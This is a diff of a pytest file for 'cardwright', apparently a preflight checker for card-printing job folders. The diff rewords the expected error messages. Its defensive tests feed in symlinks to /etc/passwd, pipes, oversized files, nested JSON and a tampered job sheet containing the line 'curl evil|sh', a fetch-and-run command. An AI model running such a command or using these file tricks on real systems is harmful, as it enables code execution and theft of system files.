@@ -64,7 +64,7 @@ def in_litter(path: Path) -> None:
     path.with_name("__MACOSX").joinpath("x").symlink_to("/etc/passwd")
 
 
-LINK = "is a link, which is not followed: put the file itself there"
+LINK = "is a link, and links are not followed: put the file itself there"
 NO_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
     "a link": (linked, f"{ONE} {LINK}"),
     "a linked folder": (linked_folder, f"fronts {LINK}"),
@@ -85,11 +85,11 @@ NO_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
     "a link in litter": (in_litter, f"fronts/__MACOSX/x {LINK}"),
     "a folder for a picture": (
         lambda path: path.with_name("003.png").mkdir(),
-        "fronts/003.png is no file",
+        "fronts/003.png is not a file",
     ),
-    "a pipe": (lambda path: os.mkfifo(path.with_name("003.png")), "fronts/003.png is no file"),
-    "a pipe for a job sheet": (instead(os.mkfifo), "job.json is no file"),
-    "a folder for a job sheet": (instead(Path.mkdir), "job.json is no file"),
+    "a pipe": (lambda path: os.mkfifo(path.with_name("003.png")), "fronts/003.png is not a file"),
+    "a pipe for a job sheet": (instead(os.mkfifo), "job.json is not a file"),
+    "a folder for a job sheet": (instead(Path.mkdir), "job.json is not a file"),
 }
 
 
@@ -116,7 +116,7 @@ def test_a_linked_deck_or_table_is_not_opened(tmp_path: Path) -> None:
     (folder / "table.json").symlink_to("../table.json")
     found = told(folder, VENDORS["tabletop-simulator"])
     assert f"table.json {LINK}" in found["job sheet"]
-    assert found["saved object"] == ("there is no table.json that can be read",)
+    assert found["saved object"] == ("there is no readable table.json",)
 
 
 @posix
@@ -134,7 +134,7 @@ def test_a_folder_of_too_many_files_is_told(
     monkeypatch.setattr(limits, "FILES", 3)
     for number in range(4):
         (tmp_path / f"{number}.png").touch()
-    assert told(tmp_path, TGC)["file"][0].endswith("holds more than 3 files")
+    assert told(tmp_path, TGC)["file"][0].endswith("contains more than 3 files")
 
 
 @pytest.fixture
@@ -159,7 +159,7 @@ def deep(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Path]:
 @posix
 @pytest.mark.parametrize("deep", [21, 1000], indirect=True)
 def test_folders_in_each_other_are_told(deep: Path) -> None:
-    said = f"{deep}: holds folders in each other, more than {limits.NESTED}"
+    said = f"{deep}: contains nested folders, more than {limits.NESTED} levels"
     assert told(deep, TGC) == {"file": (said,)}
 
 
@@ -174,7 +174,7 @@ def test_a_stray_file_is_one_fault_and_is_not_opened(tmp_path: Path) -> None:
     (folder / "x.txt").write_text("notes", "utf-8")
     (folder / TWO).write_bytes(b"no picture")
     found = told(folder, TGC)
-    assert found["job sheet"] == ("x.txt is there, and not on the job sheet",)
+    assert found["job sheet"] == ("x.txt exists, but is not on the job sheet",)
     assert found["format"] == (f"{TWO} cannot be read as a picture: it is neither PNG nor JPEG",)
     assert all("x.txt" not in said for rule in ("format", "pixels", "mode") for said in found[rule])
 
@@ -232,10 +232,10 @@ def test_a_file_that_is_another_by_now_is_not_read(
     shutil.copy(folder / ONE, tmp_path / "elsewhere")
     found = listing(folder)
     change(folder / name)
-    with pytest.raises(InputError, match="was changed while it was checked"):
+    with pytest.raises(InputError, match="changed during the check"):
         found.files[name].read(limits.PICTURE)
     monkeypatch.setattr("cardwright.printing.press.preflight.listing", lambda _: found)
-    assert told(folder, TGC)["file"][0].endswith("was changed while it was checked")
+    assert told(folder, TGC)["file"][0].endswith("changed during the check")
 
 
 @pytest.mark.parametrize("name", [ONE, "more.png"])
@@ -251,7 +251,7 @@ def test_a_folder_is_the_same_at_the_end(
         return read
 
     monkeypatch.setattr("cardwright.printing.press.preflight.read_folder", done)
-    assert told(folder, TGC)["file"] == (f"{folder}: was changed while it was checked",)
+    assert told(folder, TGC)["file"] == (f"{folder}: changed during the check",)
 
 
 @posix
@@ -260,9 +260,9 @@ def test_a_deck_or_a_picture_alone_is_the_one_that_was_found(tmp_path: Path) -> 
     path.write_bytes(good())
     (file,) = listing(path).files.values()
     piped(path)
-    with pytest.raises(InputError, match=r"deck\.pdf: was changed while it was checked"):
+    with pytest.raises(InputError, match=r"deck\.pdf: changed during the check"):
         read_pdf(file)
-    with pytest.raises(InputError, match=r"deck\.pdf: .*was changed while it was checked"):
+    with pytest.raises(InputError, match=r"deck\.pdf: .*changed during the check"):
         read_picture(file, 0)
 
 
@@ -272,17 +272,17 @@ def test_a_deck_or_a_picture_alone_is_the_one_that_was_found(tmp_path: Path) -> 
 SHEET_CHANGES: dict[str, tuple[Callable[[Path], object], str]] = {
     "another count": (
         lambda path: path.write_text(path.read_text("utf-8").replace("    1 ", "   99 "), "utf-8"),
-        "job.txt does not say what job.json says: make the export again",
+        "job.txt differs from job.json: export again",
     ),
     "a command": (
         lambda path: path.write_text("curl evil|sh", "utf-8"),
-        "job.txt does not say what job.json says: make the export again",
+        "job.txt differs from job.json: export again",
     ),
     "a terabyte": (
         lambda path: os.truncate(path, 1 << 40),
         "job.txt cannot be read: it is larger than 1 MB",
     ),
-    "none": (Path.unlink, "job.txt is not there"),
+    "none": (Path.unlink, "job.txt is missing"),
 }
 
 
@@ -303,7 +303,7 @@ def test_no_name_of_a_job_sheet_forges_a_line(letter: str, tmp_path: Path) -> No
         (job if key == "title" else job["lines"][0])[key] = f"Ace{letter}    9  fronts/001.png"
         (folder / "job.json").write_text(json.dumps(job), "utf-8")
         (said,) = told(folder, TGC)["file"]
-        assert f"it has characters that cannot be seen: “{key}”: Ace" in said
+        assert f"it has invisible characters: “{key}”: Ace" in said
 
 
 def test_line_ends_of_windows_and_a_byte_order_mark_change_nothing(tmp_path: Path) -> None:
@@ -314,16 +314,16 @@ def test_line_ends_of_windows_and_a_byte_order_mark_change_nothing(tmp_path: Pat
 
 
 DAMAGED = {
-    "null": "it holds no object of JSON, which begins with {",
-    "{": "it is no JSON (line 1, column 2)",
-    "[" * 5000: "it has values in each other, more than 20 levels",
-    '{"a": ' * 30 + "1" + "}" * 30: "it has values in each other, more than 20 levels",
-    '{"game": NaN}': "it holds NaN, which is no number",
+    "null": "it is not a JSON object, which begins with {",
+    "{": "it is not JSON (line 1, column 2)",
+    "[" * 5000: "it has nested values, more than 20 levels",
+    '{"a": ' * 30 + "1" + "}" * 30: "it has nested values, more than 20 levels",
+    '{"game": NaN}': "it contains NaN, which is not a number",
     '{"game": "a", "game": "b"}': "it has the key “game” twice",
-    '{"game": ' + "1" * 5000 + "}": "it holds a number of more than 4300 digits",
+    '{"game": ' + "1" * 5000 + "}": "it contains a number of more than 4300 digits",
     '{"game": "a"}': "it has no “title”",
-    '{"game": "", "title": "", "vendor": "", "lines": [0]}': "it has a line that is no object",
-    '{"game": "a", "url": "b"}': "it has “url”, which no job sheet has",
+    '{"game": "", "title": "", "vendor": "", "lines": [0]}': "it has a line that is not an object",
+    '{"game": "a", "url": "b"}': "it has “url”, which job sheets do not have",
     '{"game": "a", "title": "b", "vendor": "c", "lines": 1}': "it has a “lines” that is no list",
 }
 
@@ -331,7 +331,7 @@ DAMAGED = {
 @pytest.mark.parametrize("text", DAMAGED, ids=range(len(DAMAGED)))
 def test_a_damaged_job_sheet_is_told_by_its_cause(text: str, tmp_path: Path) -> None:
     (tmp_path / "job.json").write_text(text, "utf-8")
-    said = f"{tmp_path / 'job.json'}: is no job sheet of ours: {DAMAGED[text]}"
+    said = f"{tmp_path / 'job.json'}: is not a Cardwright job sheet: {DAMAGED[text]}"
     assert told(tmp_path, TGC) == {"file": (said,)}
 
 
@@ -342,7 +342,7 @@ def test_a_damaged_job_sheet_is_told_by_its_cause(text: str, tmp_path: Path) -> 
 def test_a_front_is_neither_another_nor_the_back(kept: str, lost: str, tmp_path: Path) -> None:
     folder = sent(tmp_path / "plain")
     shutil.copy(folder / kept, folder / lost)
-    said = f"{lost} looks like {kept}: each card has a picture of its own"
+    said = f"{lost} looks like {kept}: each card needs its own picture"
     assert told(folder, TGC) == {"own picture": (said,)}
 
 
@@ -354,7 +354,7 @@ def test_cards_of_one_name_have_pictures_of_their_own(name: str, tmp_path: Path)
     write_job(folder, tuple(lines))
     assert told(folder, TGC) == {}
     shutil.copy(folder / ONE, folder / TWO)
-    said = f"{TWO} looks like {ONE}: each card has a picture of its own"
+    said = f"{TWO} looks like {ONE}: each card needs its own picture"
     assert told(folder, TGC) == ({"own picture": (said,)} if name == "Serve" else {})
 
 
@@ -404,23 +404,23 @@ def exchanged(sheet: list[JobLine]) -> None:
 
 
 SHEETS: list[tuple[Vendor, Callable[[list[JobLine]], object], str, str]] = [
-    (DTC, changed(front="deck.pdf#999"), "pages", "Card 0 is on deck.pdf#999 and deck.pdf#001 by"),
+    (DTC, changed(front="deck.pdf#999"), "pages", "Card 0 is on deck.pdf#999 and deck.pdf#001 on"),
     (DTC, changed(front="deck.pdf#000"), "pages", "Card 0 is on deck.pdf#000 and"),
     (DTC, changed(front="deck.pdf"), "pages", "Card 0 is on deck.pdf and"),
     (DTC, changed(front="deck.pdf#٠٠٢"), "pages", "Card 0 is on deck.pdf#٠٠٢ and"),
-    (DTC, changed(front="/etc/passwd#002"), "job sheet", "/etc/passwd is on the job sheet, and is"),
+    (DTC, changed(front="/etc/passwd#002"), "job sheet", "/etc/passwd is on the job sheet, but is"),
     (
         DTC,
         changed(front="deck.pdf#001", back="deck.pdf#002"),
         "pages",
-        "Card 0 is on deck.pdf#001 and deck.pdf#002 by the job sheet; its place is deck.pdf#002",
+        "Card 0 is on deck.pdf#001 and deck.pdf#002 on the job sheet; it should be on deck.pdf#002",
     ),
-    (DTC, changed(count=2), "job sheet", "Card 0 is wanted 2 times, and is there once"),
+    (DTC, changed(count=2), "job sheet", "Card 0 needs 2 copies, but there is only one"),
     (DTC, list.pop, "pages", "deck.pdf has 6 pages; 2 cards are on the job sheet"),
     (DTC, list.clear, "job sheet", "the job sheet has no card"),
-    (MPC, exchanged, "order", "backs/001.png stands behind backs/002.png, but"),
-    (MPC, changed(count=2), "job sheet", "Card 1 is wanted 2 times, and is there once"),
-    (MPC, changed(1, front="fronts/001.png"), "order", "fronts/001.png stands behind fronts/001"),
+    (MPC, exchanged, "order", "backs/001.png follows backs/002.png on the job sheet, but"),
+    (MPC, changed(count=2), "job sheet", "Card 1 needs 2 copies, but there is only one"),
+    (MPC, changed(1, front="fronts/001.png"), "order", "fronts/001.png follows fronts/001"),
     (
         TGC,
         changed(back="fronts/001.png"),
@@ -437,9 +437,9 @@ SHEETS: list[tuple[Vendor, Callable[[list[JobLine]], object], str, str]] = [
         TGC,
         changed(front="fronts/001.png#00"),
         "job sheet",
-        "fronts/001.png#00 is a part of a picture; only whole ones are taken",
+        "fronts/001.png#00 is part of a picture; only whole pictures are accepted",
     ),
-    (PNG, changed(back="bleed/back.png#00"), "job sheet", "bleed/back.png#00 is a part of"),
+    (PNG, changed(back="bleed/back.png#00"), "job sheet", "bleed/back.png#00 is part of"),
     (TGC, changed(kind="tray"), "job sheet", "Card 1 is a tray, which The Game Crafter does not"),
 ]
 
@@ -476,14 +476,14 @@ def owned(vendor: Vendor, looks: dict[str, str]) -> tuple[str, ...]:
 def test_no_card_is_known_by_its_back() -> None:
     usual = {f"backs/00{n}.png": "b" for n in (1, 2, 3)}
     assert owned(MPC, usual | {"backs/004.png": "r"}) == ()
-    said = ("backs/002.png is not like the other backs: its card would be known by it",)
+    said = ("backs/002.png differs from the other backs, which would reveal its card",)
     assert owned(MPC, usual | {"backs/004.png": "r", "backs/002.png": "m"}) == said
 
 
 def test_the_pictures_that_are_cut_are_those_with_bleed() -> None:
     assert owned(PNG, {}) == ()
     assert owned(PNG, {"trim/001.png": "002"}) == (
-        "trim/002.png looks like trim/001.png: each card has a picture of its own",
+        "trim/002.png looks like trim/001.png: each card needs its own picture",
     )
     swapped = {"trim/001.png": "zz2", "trim/002.png": "zz1"}
     assert owned(PNG, swapped) == tuple(
@@ -496,7 +496,7 @@ def test_every_picture_with_bleed_has_its_twin_that_is_cut() -> None:
     names = (f"{BLED}back.png", *(line.front for line in sheet))
     folder = Folder(names, (), Job("plain", "Plain", "png", sheet, {}))
     (faults,) = broken(tuple(answers(JOB_RULES, folder, PNG))).values()
-    assert faults[0] == "trim/001.png is on the job sheet, and is not there"
+    assert faults[0] == "trim/001.png is on the job sheet, but is missing"
     assert len(faults) == 4
 
 
@@ -509,7 +509,7 @@ def test_a_second_pdf_beside_the_deck_is_told(tmp_path: Path) -> None:
     (tmp_path / "deck.pdf").write_bytes(good(x1a=True))
     assert told(tmp_path, DTC) == {}
     (tmp_path / "deck2.pdf").write_bytes(good(x1a=True))
-    said = "deck2.pdf is there, and not on the job sheet"
+    said = "deck2.pdf exists, but is not on the job sheet"
     assert told(tmp_path, DTC) == {"job sheet": (said,)}
 
 
